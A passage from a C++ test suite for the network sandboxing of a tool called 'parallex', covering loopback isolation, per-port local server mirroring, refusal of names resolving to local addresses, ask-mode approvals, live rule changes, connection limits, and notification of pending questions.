  EXPECT_TRUE(malformed) << dump(lines);
}

TEST_F(Network, AListenerInsideIsNotReachableFromTheHost) {
  // The run binds a port and says which; the host tries it while the run waits
  // (only a published port reaches inside). With Local servers and without:
  // TCP inside the run's own namespace is the run's either way.
  for (const bool local_servers : {true, false}) {
    SCOPED_TRACE(local_servers ? "with --local-servers" : "without Local servers");
    const fs::path marker = root_ / "work" / "port";
    fs::remove(marker);
    std::thread host_side;
    std::string from_host;
    const std::string script =
        "python3 - <<'EOF'\n"
        "import socket, time, os\n"
        "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n"
        "open('port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('port.tmp', 'port')\n"
        "s.settimeout(1.5)\n"
        "try: s.accept(); print('accepted from outside?!')\n"
        "except OSError: print('no one came')\n"
        "EOF";
    host_side = std::thread([&] {
      for (int i = 0; i < 500 && !fs::exists(marker); ++i) std::this_thread::sleep_for(10ms);
      const int port = std::atoi(slurp(marker).c_str());
      const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
      sockaddr_in a{};
      a.sin_family = AF_INET;
      a.sin_port = htons(static_cast<std::uint16_t>(port));
      a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      from_host =
          ::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 ? "connected" : std::to_string(errno);
      ::close(fd);
    });
    std::vector<std::string> flags{"--allow", "allowed.test"};
    if (local_servers) flags.push_back("--local-servers");
    const auto inside = run(flags, script);
    host_side.join();
    ASSERT_EQ(inside.status, 0) << inside.out << inside.err;
    EXPECT_NE(inside.out.find("no one came"), std::string::npos) << inside.out;
    EXPECT_EQ(from_host, std::to_string(ECONNREFUSED));
  }
}

// `--local-servers=PORT`: only the named port of this machine's loopback
// reaches the run, mirrored and through the proxy; another port stays out.
TEST_F(Network, LocalServersOnlyOnTheNamedPorts) {
  HttpServer named, other;
  const std::string a = std::to_string(named.port()), b = std::to_string(other.port());
  const auto r = run({"--allow", "allowed.test", "--local-servers=" + a},
                     "curl -sS --noproxy '*' --max-time 10 http://localhost:" + a +
                         "/; echo; "
                         "curl -sS --noproxy '*' --max-time 5 http://localhost:" +
                         b +
                         "/ >/dev/null 2>&1; echo direct=$?; "
                         "curl -sSf --max-time 5 -x \"${HTTP_PROXY:-$http_proxy}\" http://localhost:" +
                         b + "/ >/dev/null 2>&1; echo proxied=$?");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("hello from the host"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("direct=7"), std::string::npos) << "the other port was mirrored: " << r.out;
  EXPECT_NE(r.out.find("proxied=22"), std::string::npos) << "the proxy let the other port through: " << r.out;
  EXPECT_EQ(other.connections(), 0);
  EXPECT_GE(named.connections(), 1);
}

TEST_F(Network, LocalServersMirroredIntoTheRunAndPublishedOut) {
  HttpServer web;
  const auto mirrored =
      run({"--allow", "allowed.test", "--local-servers"},
          "curl -sS --noproxy '*' --max-time 10 http://localhost:" + std::to_string(web.port()) + "/");
  ASSERT_EQ(mirrored.status, 0) << mirrored.out << mirrored.err;
  EXPECT_EQ(mirrored.out, "hello from the host");
  // Without Local servers nothing of this machine shows inside.
  const auto off = run({"--allow", "allowed.test"}, "curl -sS --noproxy '*' --max-time 5 http://localhost:" +
                                                        std::to_string(web.port()) + "/; echo rc=$?");
  EXPECT_NE(off.out.find("rc=7"), std::string::npos) << off.out << off.err;

  // Published: a server inside on 127.0.0.1:PORT, reached from here on HOSTPORT.
  const int host_port = free_port();
  std::string fetched;
  std::thread client([&] {
    for (int i = 0; i < 300 && fetched.find("inside") == std::string::npos; ++i) {
      std::this_thread::sleep_for(20ms);
      const auto c = spawn_and_wait(
          {"curl", "-sS", "--max-time", "2", "http://127.0.0.1:" + std::to_string(host_port) + "/"}, {},
          root_ / "logs");
      fetched = c.out;
    }
  });
  const auto served =
      run({"--offline", "--publish", "18999:" + std::to_string(host_port)},
          "python3 - <<'EOF'\n"
          "import http.server\n"
          "class H(http.server.BaseHTTPRequestHandler):\n"
          "    def do_GET(self):\n"
          "        self.send_response(200); self.end_headers(); self.wfile.write(b'served from inside')\n"
          "    def log_message(self, *a): pass\n"
          "s = http.server.HTTPServer(('127.0.0.1', 18999), H); s.timeout = 10; s.handle_request()\n"
          "EOF");
  client.join();
  EXPECT_EQ(served.status, 0) << served.out << served.err;
  EXPECT_EQ(fetched, "served from inside");
}

// A TCP server on 127.0.0.1 that answers each line with itself and holds
// every connection open (one thread, poll), with the backlog a real server
// has: what a burst of connections from inside a run is measured against.
class HoldingEcho {
 public:
  HoldingEcho() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ::bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a);
    ::listen(fd_, 4096);
    socklen_t len = sizeof a;
    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
    port_ = ntohs(a.sin_port);
    thread_ = std::thread([this] {
      std::vector<pollfd> fds{{fd_, POLLIN, 0}};
      while (!stop_) {
        if (::poll(fds.data(), fds.size(), 50) <= 0) continue;
        for (std::size_t i = fds.size(); i-- > 1;) {
          if (!(fds[i].revents & (POLLIN | POLLHUP | POLLERR))) continue;
          char buf[256];
          const ssize_t n = ::read(fds[i].fd, buf, sizeof buf);
          if (n > 0) {
            [[maybe_unused]] auto w = ::write(fds[i].fd, buf, static_cast<std::size_t>(n));
          } else {
            ::close(fds[i].fd);
            fds.erase(fds.begin() + static_cast<std::ptrdiff_t>(i));
          }
        }
        if (fds[0].revents & POLLIN)
          for (int c; (c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC)) >= 0;)
            fds.push_back({c, POLLIN, 0});
      }
      for (std::size_t i = 1; i < fds.size(); ++i) ::close(fds[i].fd);
    });
  }
  ~HoldingEcho() {
    stop_ = true;
    thread_.join();
    ::close(fd_);
  }
  std::uint16_t port() const { return port_; }

 private:
  int fd_ = -1;
  std::uint16_t port_ = 0;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

// A burst of connections to localhost:PORT (a port of this machine, mirrored
// by Local servers): all in flight at once, each answered, none dropped by a
// full listen queue (the run's kernel counts those: ListenOverflows), and as
// quick as the same burst through the proxy's CONNECT. Past the run's limit
// of 512 open connections each one over is refused at once, and named with
// its host, port and reason in proxy.jsonl, the record and the summary.
TEST_F(Network, ABurstOfCapturedConnectionsOpensAtOnceAndPastTheLimitEachRefusalIsNamed) {
  if (!have("python3")) GTEST_SKIP() << "python3 is needed";
  HoldingEcho echo;
  const std::string port = std::to_string(echo.port());
  const std::string burst =
      "cat > burst.py <<'EOF'\n"
      "import os, socket, sys, time, urllib.parse\n"
      "n, via = int(sys.argv[1]), sys.argv[2]\n"
      "def overflows():\n"
      "    lines = open('/proc/net/netstat').read().split('\\n')\n"
      "    names, values = lines[0].split(), lines[1].split()\n"
      "    return int(values[names.index('ListenOverflows')])\n"
      "before = overflows()\n"
      "p = urllib.parse.urlparse(os.environ['HTTPS_PROXY'])\n"
      "t0 = time.monotonic(); socks = []\n"
      "for i in range(n):\n"
      "    s = socket.socket(); s.setblocking(False)\n"
      "    try: s.connect((p.hostname, p.port) if via == 'CONNECT' else ('127.0.0.1', " +
      port +
      "))\n"
      "    except BlockingIOError: pass\n"
      "    socks.append(s)\n"
      "ok = refused = 0\n"
      "for s in socks:\n"
      "    s.setblocking(True); s.settimeout(10)\n"
      "    try:\n"
      "        if via == 'CONNECT':\n"
      "            import base64\n"
      "            a = base64.b64encode(f'{p.username}:{p.password}'.encode()).decode()\n"
      "            s.sendall(f'CONNECT localhost:" +
      port + " HTTP/1.1\\r\\nHost: localhost:" + port +
      "\\r\\nProxy-Authorization: Basic {a}\\r\\n\\r\\n'.encode())\n"
      "            head = b''\n"
      "            while b'\\r\\n\\r\\n' not in head:\n"
      "                c = s.recv(1)\n"
      "                if not c: raise OSError('closed')\n"
      "                head += c\n"
      "            if b' 200 ' not in head: raise OSError('refused')\n"
      "        s.sendall(b'ping\\n')\n"
      "        if s.recv(16) == b'ping\\n': ok += 1\n"
      "        else: refused += 1\n"
      "    except OSError: refused += 1\n"
      "print(via, n, ok, refused, round((time.monotonic() - t0) * 1000), overflows() - before)\n"
      "EOF\n";
  const auto r =
      run({"--local-servers"}, burst + "python3 burst.py 500 CONNECT && python3 burst.py 500 captured");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  std::istringstream lines(r.out);
  std::string via;
  int n = 0, ok = 0, refused = 0, ms = 0, overflowed = 0, connect_ms = 0;
  while (lines >> via >> n >> ok >> refused >> ms >> overflowed) {
    SCOPED_TRACE(via);
    EXPECT_EQ(ok, 500) << r.out;
    EXPECT_EQ(overflowed, 0) << "connections were dropped by a full listen queue: " << r.out;
    if (via == "CONNECT") connect_ms = ms;
    // A dropped connection costs a second (the client's SYN retry): well
    // beyond the CONNECT burst's time, whatever the machine's load.
    if (via == "captured") {
      EXPECT_LT(ms, connect_ms + 900) << r.out;
    }
  }
  EXPECT_GT(connect_ms, 0) << r.out;

  // 600 held at once: 512 answered, the 88 over the limit refused and named.
  const auto over = run({"--local-servers"}, burst + "python3 burst.py 600 captured");
  ASSERT_EQ(over.status, 0) << over.out << over.err;
  EXPECT_NE(over.out.find("captured 600 512 88 "), std::string::npos) << over.out;
  const auto refusals = where(log(), "TCP", "localhost");
  std::size_t named = 0;
  for (const auto& l : refusals)
    if (l["reason"] == "too-many-connections" && l["port"] == echo.port()) ++named;
  EXPECT_EQ(named, 88u) << dump(refusals);
  EXPECT_NE(over.err.find("too-many-connections: localhost:" + port + " (x88)"), std::string::npos)
      << over.err;
  json record = json::object();
  for (const auto& e : fs::recursive_directory_iterator(root_ / "home"))
    if (e.path().filename() == "run.json") {
      const json j = json::parse(slurp(e.path()));
      if (j["started_at"] > record.value("started_at", "")) record = j;
    }
  bool in_record = false;
  for (const auto& q : record["refused"])
    in_record |= q["host"] == "localhost" && q["port"] == echo.port() &&
                 q["reason"] == "too-many-connections" && q["count"] == 88;
  EXPECT_TRUE(in_record) << record["refused"].dump(2);
}

// An allowed name that resolves to a local address is refused without Local
// servers, and with Local servers on for other ports only; on for its port, it
// passes. (The test resolver answers loopback addresses only; a private or
// link-local answer, such as a cloud's metadata address, takes the same path:
// every answer that is not global, tests/proxy/test_host_rules.cpp.)
TEST_F(Network, AnAllowedNameResolvingToALocalAddressNeedsLocalServersForItsPort) {
  HttpServer web;
  const std::string port = std::to_string(web.port());
  const std::string resolve = "web.test=127.0.0.1";
  const std::string fetch =
      "curl -sS -o /dev/null -w '%{http_code}' --max-time 5 -x \"${HTTP_PROXY:-$http_proxy}\" "
      "http://web.test:" +
      port + "/";
  const auto off = run({"--allow", "web.test:" + port}, fetch, resolve);
  EXPECT_EQ(off.out, "403") << off.out << off.err;
  const auto lines = log();
  ASSERT_FALSE(lines.empty());
  EXPECT_EQ(lines.back().value("reason", ""), "resolved-to-local-address") << dump(lines);
  const auto other = run({"--allow", "web.test:" + port, "--local-servers=1"}, fetch, resolve);
  EXPECT_EQ(other.out, "403") << other.out << other.err;
  EXPECT_EQ(web.connections(), 0);
  const auto on = run({"--allow", "web.test:" + port, "--local-servers=" + port}, fetch, resolve);
  EXPECT_EQ(on.out, "200") << on.out << on.err;
  EXPECT_EQ(web.connections(), 1);
}

TEST_F(Network, MalformedHostPortRulesAreRefusedWithTheFix) {
  const std::pair<const char*, const char*> cases[] = {
      {"web.test:0", "between 1 and 65535"},
      {"web.test:65536", "between 1 and 65535"},
      {"web.test:20-30", "one port per rule"},
      {"https://web.test", "scheme"},
      {"com", "public suffix"},
      {"*.co.uk:443", "public suffix"},
  };
  for (const auto& [rule, fix] : cases) {
    const auto r = run({"--allow", rule}, "echo ran");
    EXPECT_EQ(r.status, 125) << rule << ": " << r.err;  // a run that could not start
    EXPECT_EQ(r.out.find("ran"), std::string::npos) << rule;
    EXPECT_NE(r.err.find(fix), std::string::npos) << rule << ": " << r.err;
  }
}

// ---- The unprivileged pass -------------------------------------------------------------

// Ask mode in a real seal: curl's connection to a name outside the rule is
// held; `parallex approve` (another process, outside the run) lists it with
// the process that asked and lets it through for the rest of the run; the
// next request is not asked; the record says who answered and when.
TEST_F(Network, AskModeHoldsAConnectionUntilTheUserApprovesIt) {
  if (!have("curl")) GTEST_SKIP() << "curl is not installed";
  HttpServer server;
  const std::string port = std::to_string(server.port());
  const std::string url = "http://asked.test:" + port + "/";
  auto running = std::async(std::launch::async, [&] {
    return run({"--ask=30", "--allow", "allowed.test", "--local-servers=" + port},
               "curl -s --max-time 40 " + url + "; echo; curl -s --max-time 5 " + url,
               "asked.test=127.0.0.1");
  });
  const std::vector<std::string> env{"PARALLEX_HOME=" + (root_ / "home").string(),
                                     "XDG_RUNTIME_DIR=" + (root_ / "runtime").string()};
  json open;
  for (int i = 0; i < 300 && open.empty(); ++i) {
    const auto listed = spawn_and_wait({kExe, "approve", "--json"}, env, root_ / "logs");
    if (listed.status == 0) {
      const auto j = json::parse(listed.out, nullptr, false);
      if (j.is_object() && !j["questions"].empty()) open = j["questions"][0];
    }
    if (open.empty()) std::this_thread::sleep_for(100ms);
  }
  ASSERT_FALSE(open.empty()) << "no question was asked";
  EXPECT_EQ(open["host"], "asked.test");
  EXPECT_EQ(open["port"], server.port());
  EXPECT_NE(open.value("process", "").find("curl"), std::string::npos) << open.dump();
  EXPECT_EQ(server.connections(), 0) << "held: nothing reached the server before the answer";
  const auto answered = spawn_and_wait(
      {kExe, "approve", std::to_string(open["question"].get<int>()), "--for", "run"}, env, root_ / "logs");
  ASSERT_EQ(answered.status, 0) << answered.out << answered.err;
  const auto r = running.get();
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_EQ(r.out, "hello from the host\nhello from the host") << r.err;
  EXPECT_EQ(server.connections(), 2);
  // The record: the question, its answer, the rule it made.
  const fs::path record = run_record();
  const json j = json::parse(slurp(record));
  ASSERT_TRUE(j.contains("network_live")) << j.dump(2);
  const auto& live = j["network_live"];
  EXPECT_EQ(live["ask_seconds"], 30);
  ASSERT_EQ(live["questions"].size(), 1u) << live.dump(2);
  EXPECT_EQ(live["questions"][0]["outcome"], "allowed-for-run");
  EXPECT_NE(live["questions"][0].value("by", "").find("parallex approve"), std::string::npos);
  EXPECT_NE(live["questions"][0].value("process", "").find("curl"), std::string::npos);
  ASSERT_EQ(live["rule_changes"].size(), 1u);
  EXPECT_EQ(live["rule_changes"][0]["rule"], "asked.test:" + port);
  // The same, as it happened, in the run's event stream.
  const std::string events = slurp(record.parent_path() / "events.jsonl");
  EXPECT_NE(events.find(R"("type":"network.asked")"), std::string::npos) << events;
  EXPECT_NE(events.find(R"("answer":"allowed-for-run")"), std::string::npos) << events;
  EXPECT_NE(events.find(R"("type":"rule.changed")"), std::string::npos) << events;
}

// No answer in time: the connection gets the refusal the rule would have
// given, saying nobody answered; a deny for the run refuses without asking.
TEST_F(Network, AskModeRefusesWhatNobodyAnswers) {
  if (!have("curl")) GTEST_SKIP() << "curl is not installed";
  HttpServer server;
  const std::string port = std::to_string(server.port());
  const auto r =
      run({"--ask=1", "--local-servers=" + port},
          "curl -s -x \"$HTTP_PROXY\" -D - -o /dev/null --max-time 20 http://asked.test:" + port + "/",
          "asked.test=127.0.0.1");
  EXPECT_NE(r.out.find("x-proxy-error: not-answered"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(server.connections(), 0);
}

// `parallex allow --run` and `deny --run` change what a running run's next
// connection gets (a loop of curl in the run), and the record lists the changes.
TEST_F(Network, LiveRulesChangeWhatTheNextRequestGets) {
  if (!have("curl")) GTEST_SKIP() << "curl is not installed";
  HttpServer server;
  const std::string port = std::to_string(server.port());
  const std::string url = "http://live.test:" + port + "/";
  // Each request writes its status on a line; the run ends after 8 s.
  auto running = std::async(std::launch::async, [&] {
    return run({"--allow", "allowed.test", "--local-servers=" + port},
               "end=$(($(date +%s)+8)); while [ $(date +%s) -lt $end ]; do "
               "curl -s -o /dev/null -w '%{http_code}\\n' --max-time 2 " +
                   url + "; sleep 0.2; done",
               "live.test=127.0.0.1");
  });
  const std::vector<std::string> env{"PARALLEX_HOME=" + (root_ / "home").string(),
                                     "XDG_RUNTIME_DIR=" + (root_ / "runtime").string()};
  std::string id;
  for (int i = 0; i < 100 && id.empty(); ++i) {
    const auto listed = spawn_and_wait({kExe, "runs", "--json"}, env, root_ / "logs");
    const auto j = json::parse(listed.out, nullptr, false);
    if (j.is_object() && j.contains("runs") && !j["runs"].empty()) id = j["runs"][0].value("id", "");
    if (id.empty()) std::this_thread::sleep_for(100ms);
  }
  ASSERT_FALSE(id.empty());
  std::this_thread::sleep_for(1500ms);
  auto allowed = spawn_and_wait({kExe, "allow", "--run", id, "live.test:" + port}, env, root_ / "logs");
  ASSERT_EQ(allowed.status, 0) << allowed.out << allowed.err;
  std::this_thread::sleep_for(2500ms);
  auto denied = spawn_and_wait({kExe, "deny", "--run", id, "live.test"}, env, root_ / "logs");
  ASSERT_EQ(denied.status, 0) << denied.out << denied.err;
  // Bad input: not a plain host name, a public suffix, a run that is not there.
  EXPECT_NE(spawn_and_wait({kExe, "allow", "--run", id, "127.0.0.1"}, env, root_ / "logs").status, 0);
  EXPECT_NE(spawn_and_wait({kExe, "allow", "--run", id, "*.com"}, env, root_ / "logs").status, 0);
  EXPECT_NE(spawn_and_wait({kExe, "allow", "--run", "nosuchrun", "live.test"}, env, root_ / "logs").status,
            0);
  const auto r = running.get();
  ASSERT_EQ(r.status, 0) << r.err;
  // 403s, then 200s once allowed, then 403s again once denied: in that order.
  const std::string codes = r.out;
  const auto first_ok = codes.find("200");
  ASSERT_NE(first_ok, std::string::npos) << codes;
  EXPECT_EQ(codes.substr(0, codes.find('\n')), "403") << codes;
  const auto last_ok = codes.rfind("200");
  EXPECT_NE(codes.find("403", last_ok), std::string::npos) << "refused again after the deny: " << codes;
  EXPECT_EQ(codes.find("403", first_ok), codes.find("403", last_ok)) << "no refusal between: " << codes;
  const fs::path record = run_record();
  const json j = json::parse(slurp(record));
  const auto& changes = j["network_live"]["rule_changes"];
  ASSERT_EQ(changes.size(), 2u) << j.dump(2);
  EXPECT_EQ(changes[0]["change"], "allow");
  EXPECT_EQ(changes[1]["change"], "deny");
  EXPECT_NE(changes[0].value("by", "").find("parallex allow"), std::string::npos);
}

// What a run can read about its own refusals, and what it cannot do: the run
// service behind its proxy lists this run's refusals with the fix (curl, and
// the MCP tool recent_refusals of `parallex mcp` inside the run); a request
// for a host becomes a question the user sees outside; the run cannot answer
// it (`parallex approve` inside the run is refused), nor see another run's.
TEST_F(Network, ARunReadsItsOwnRefusalsAndCannotAnswerItsOwnRequest) {
  if (!have("curl")) GTEST_SKIP() << "curl is not installed";
  const std::string init =
      R"({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}})";
  const std::string call =
      R"({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"recent_refusals","arguments":{}}})";
  const std::string script =
      "curl -s -o /dev/null https://refused.example/; "
      "echo; curl -s -x \"$HTTP_PROXY\" http://parallex.invalid/v1/refusals; "
      "echo; curl -s -x \"$HTTP_PROXY\" -X POST "
      "'http://parallex.invalid/v1/requests?host=wanted.example&port=443'; "
      "echo; " +
      kExe +
      " approve 1 >/dev/null 2>&1; echo approve=$?; "
      "printf '%s\\n%s\\n' '" +
      init + "' '" + call + "' | " + kExe + " mcp";
  const auto r = run({"--allow", "allowed.test"}, script);
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("\"host\": \"refused.example\""), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("parallex allow --run "), std::string::npos) << "the fix is named: " << r.out;
  EXPECT_NE(r.out.find("\"status\": \"asked\""), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("approve=1"), std::string::npos) << "a run cannot answer: " << r.out;
  // The MCP tool inside the run says the same.
  const auto tool_answer = r.out.find(R"({"id":2,)");
  ASSERT_NE(tool_answer, std::string::npos) << r.out;
  EXPECT_NE(r.out.find("refused.example", tool_answer), std::string::npos) << r.out;
  // The request was a question for the user, closed unanswered when the run ended.
  const fs::path record = run_record();
  const json j = json::parse(slurp(record));
  ASSERT_TRUE(j.contains("network_live")) << j.dump(2);
  ASSERT_EQ(j["network_live"]["questions"].size(), 1u);
  EXPECT_EQ(j["network_live"]["questions"][0]["host"], "wanted.example");
  EXPECT_EQ(j["network_live"]["questions"][0]["outcome"], "stopped");
}

// "Always" for an agent: the answer goes into the agent's rules (agent show
// lists it, `agent set --disallow` undoes it) and its next run is not asked.
TEST_F(Network, AnAlwaysAnswerIsWrittenToTheAgentsRules) {
  if (!have("curl")) GTEST_SKIP() << "curl is not installed";
  HttpServer server;
  const std::string port = std::to_string(server.port());
  const std::vector<std::string> env{"PARALLEX_HOME=" + (root_ / "home").string(),
                                     "XDG_RUNTIME_DIR=" + (root_ / "runtime").string(),
                                     "PARALLEX_TEST_RESOLVE=asked.test=127.0.0.1"};
  const auto made = spawn_and_wait({kExe, "agent", "new", "bot", "--email", "bot@example.com", "--allow",
                                    "allowed.test", "--ask=30", "--local-servers=" + port},
                                   env, root_ / "logs");
  ASSERT_EQ(made.status, 0) << made.err;
  const std::vector<std::string> agent_run{
      kExe, "agent", "run", "bot",        "--in", (root_ / "work").string(),
      "--", "curl",  "-s",  "--max-time", "40",   "http://asked.test:" + port + "/"};
  auto first = std::async(std::launch::async, [&] { return spawn_and_wait(agent_run, env, root_ / "logs"); });
  json open;
  for (int i = 0; i < 300 && open.empty(); ++i) {
    const auto listed = spawn_and_wait({kExe, "approve", "--json"}, env, root_ / "logs");
    const auto j = json::parse(listed.out, nullptr, false);
    if (j.is_object() && !j["questions"].empty()) open = j["questions"][0];
    if (open.empty()) std::this_thread::sleep_for(100ms);
  }
  ASSERT_FALSE(open.empty()) << "no question was asked";
  EXPECT_EQ(open["agent"], "bot");
  const auto answered = spawn_and_wait(
      {kExe, "approve", std::to_string(open["question"].get<int>()), "--for", "always"}, env, root_ / "logs");
  ASSERT_EQ(answered.status, 0) << answered.err;
  EXPECT_NE(answered.out.find("agent bot allows asked.test:" + port), std::string::npos) << answered.out;
  const auto r1 = first.get();
  EXPECT_EQ(r1.out, "hello from the host") << r1.err;
  const auto shown = spawn_and_wait({kExe, "agent", "show", "bot", "--json"}, env, root_ / "logs");
  EXPECT_NE(shown.out.find("asked.test:" + port), std::string::npos) << shown.out;
  // The next run goes there without a question.
  const auto r2 = spawn_and_wait(agent_run, env, root_ / "logs");
  EXPECT_EQ(r2.out, "hello from the host") << r2.err;
  EXPECT_EQ(r2.err.find("asks"), std::string::npos) << r2.err;
  const auto undone =
      spawn_and_wait({kExe, "agent", "set", "bot", "--disallow", "asked.test:" + port}, env, root_ / "logs");
  EXPECT_EQ(undone.status, 0) << undone.err;
  EXPECT_EQ(server.connections(), 2);
}

// A question open when its supervisor is killed (SIGKILL) is not lost without
// a word: the held connection closes with the supervisor, `parallex approve`
// no longer lists it, and `parallex runs` closes the run as lost and names the
// question, which run.json's network_live and the run's events say was "lost".
TEST_F(Network, AQuestionOpenWhenTheSupervisorIsKilledIsClosedAsLost) {
  if (!have("curl")) GTEST_SKIP() << "curl is not installed";
  HttpServer server;
  const std::string port = std::to_string(server.port());
  auto running = std::async(std::launch::async, [&] {
    return run({"--ask=60", "--local-servers=" + port},
               "curl -s --max-time 70 http://asked.test:" + port + "/; echo curl=$?", "asked.test=127.0.0.1");
  });
  const std::vector<std::string> env{"PARALLEX_HOME=" + (root_ / "home").string(),
                                     "XDG_RUNTIME_DIR=" + (root_ / "runtime").string()};
  json open;
  for (int i = 0; i < 300 && open.empty(); ++i) {
    const auto j =
        json::parse(spawn_and_wait({kExe, "approve", "--json"}, env, root_ / "logs").out, nullptr, false);
    if (j.is_object() && !j["questions"].empty()) open = j["questions"][0];
    if (open.empty()) std::this_thread::sleep_for(100ms);
  }
  ASSERT_FALSE(open.empty()) << "no question was asked";
  const std::string id = open.value("run", "");
  const fs::path record = run_record();
  const json started = json::parse(slurp(record));
  const pid_t supervisor = started["supervisor"].value("pid", 0);
  ASSERT_GT(supervisor, 0) << started.dump(2).substr(0, 2000);
  ASSERT_EQ(::kill(supervisor, SIGKILL), 0);
  const auto r = running.get();
  EXPECT_EQ(r.out.find("hello from the host"), std::string::npos) << r.out;
  EXPECT_EQ(server.connections(), 0);

  const auto listed = spawn_and_wait({kExe, "approve"}, env, root_ / "logs");
  EXPECT_NE(listed.out.find("no run is asking anything now"), std::string::npos) << listed.out << listed.err;
  const std::string n = std::to_string(open["question"].get<int>());
  const auto late = spawn_and_wait({kExe, "approve", n}, env, root_ / "logs");
  EXPECT_NE(late.status, 0);
  EXPECT_NE(late.err.find("no run has an open question " + n), std::string::npos) << late.err;
  const auto runs = spawn_and_wait({kExe, "runs"}, env, root_ / "logs");
  const std::string said = runs.out + runs.err;
  EXPECT_NE(said.find("run " + id + " was left without an end"), std::string::npos) << said;
  EXPECT_NE(said.find("question " + n + " (asked.test:" + port + ") was open when its supervisor died"),
            std::string::npos)
      << said;

  const json closed = json::parse(slurp(record));
  EXPECT_EQ(closed["status"], "lost");
  ASSERT_TRUE(closed.contains("network_live")) << closed.dump(2).substr(0, 3000);
  EXPECT_EQ(closed["network_live"]["ask_seconds"], 60);
  ASSERT_EQ(closed["network_live"]["questions"].size(), 1u) << closed["network_live"].dump(2);
  const json& q = closed["network_live"]["questions"][0];
  EXPECT_EQ(q["host"], "asked.test");
  EXPECT_EQ(q["port"], server.port());
  EXPECT_EQ(q["outcome"], "lost");
  EXPECT_EQ(q["answered_at"], closed["ended_at"]);
  const std::string events = slurp(record.parent_path() / "events.jsonl");
  EXPECT_NE(events.find(R"("type":"network.answered")"), std::string::npos) << events;
  EXPECT_NE(events.find(R"("answer":"lost")"), std::string::npos) << events;
  // Said once: the next `runs` has nothing more to close.
  const auto again = spawn_and_wait({kExe, "runs"}, env, root_ / "logs");
  EXPECT_EQ((again.out + again.err).find("was open when its supervisor died"), std::string::npos);
}

// The desktop notification, on a real session bus of the test's own
// (dbus-daemon) with a notification server on it (notification_server.py, as a
// desktop's): a question of an ask-mode run is shown once, with the run, the
// host:port and the commands that answer it; inside the run the bus's address
// is stripped. Without DBUS_SESSION_BUS_ADDRESS nothing is shown: notify-send
// is not even started (a notify-send of the test's first on PATH says if it is).
TEST_F(Network, AskModeShowsEachQuestionAsADesktopNotification) {
  if (!have("curl") || !have("dbus-daemon") || !have("notify-send"))
    GTEST_SKIP() << "curl, dbus-daemon or notify-send is not installed (apt-get install dbus libnotify-bin)";
  // Its socket in the test's own folder, gone with it (the session config's
  // default is a file in /tmp that dbus-daemon leaves behind).
  Background bus = Background::start({"dbus-daemon", "--session", "--nofork", "--print-address",
                                      "--address=unix:dir=" + (root_ / "runtime").string()});
  ASSERT_EQ(bus.first_line.rfind("unix:", 0), 0u) << "dbus-daemon gave no address: " << bus.first_line;
  const std::string address = bus.first_line;
  const fs::path shown = root_ / "logs" / "notifications.jsonl";
  // GLib's Python bindings are the system Python's (python3-gi).
  const std::string python = fs::exists("/usr/bin/python3") ? "/usr/bin/python3" : "python3";
  Background server = Background::start({"env", "DBUS_SESSION_BUS_ADDRESS=" + address, python,
                                         kHere + "/notification_server.py", shown.string()});
  if (server.first_line != "ready")
    GTEST_SKIP() << "the test's notification server did not start (apt-get install python3-gi): "
                 << server.first_line;
  HttpServer page;
  const std::string port = std::to_string(page.port());
  const std::string fetch = "curl -s --max-time 40 http://asked.test:" + port + "/";
  auto running = std::async(std::launch::async, [&] {
    return run({"--ask=30", "--local-servers=" + port},
               "echo \"bus=${DBUS_SESSION_BUS_ADDRESS-stripped}\"; " + fetch, "asked.test=127.0.0.1",
               {"DBUS_SESSION_BUS_ADDRESS=" + address});
  });
  for (int i = 0; i < 300 && slurp(shown).empty(); ++i) std::this_thread::sleep_for(100ms);
  const std::vector<std::string> env{"PARALLEX_HOME=" + (root_ / "home").string(),
                                     "XDG_RUNTIME_DIR=" + (root_ / "runtime").string()};
  const auto listed = spawn_and_wait({kExe, "approve", "--json"}, env, root_ / "logs");
  const auto questions = json::parse(listed.out, nullptr, false);
  ASSERT_TRUE(questions.is_object() && !questions["questions"].empty()) << listed.out << listed.err;
  const json open = questions["questions"][0];
  const std::string id = open.value("run", ""), n = std::to_string(open["question"].get<int>());
  ASSERT_EQ(spawn_and_wait({kExe, "deny", n}, env, root_ / "logs").status, 0);
  const auto r = running.get();
  EXPECT_NE(r.out.find("bus=stripped"), std::string::npos) << "the bus's address inside the run: " << r.out;
  EXPECT_EQ(r.out.find(address), std::string::npos) << r.out;

  std::vector<json> notes;
  std::istringstream lines(slurp(shown));
  for (std::string l; std::getline(lines, l);) notes.push_back(json::parse(l, nullptr, false));
  ASSERT_EQ(notes.size(), 1u) << slurp(shown);
  EXPECT_EQ(notes[0]["app_name"], "parallex");
  EXPECT_NE(notes[0].value("summary", "").find("run " + id), std::string::npos) << notes[0].dump();
  const std::string body = notes[0].value("body", "");
  EXPECT_NE(body.find("asked.test:" + port), std::string::npos) << body;
  EXPECT_NE(body.find("parallex approve " + n + " --run " + id), std::string::npos) << body;
  EXPECT_NE(body.find("parallex deny " + n + " --run " + id), std::string::npos) << body;

  // The variable unset: the same question, and nothing shown or started.
  const fs::path fake = root_ / "fake-bin";
  fs::create_directories(fake);
  std::ofstream(fake / "notify-send")
      << "#!/bin/sh\ntouch " << (root_ / "logs" / "notify-send-ran").string() << "\n";
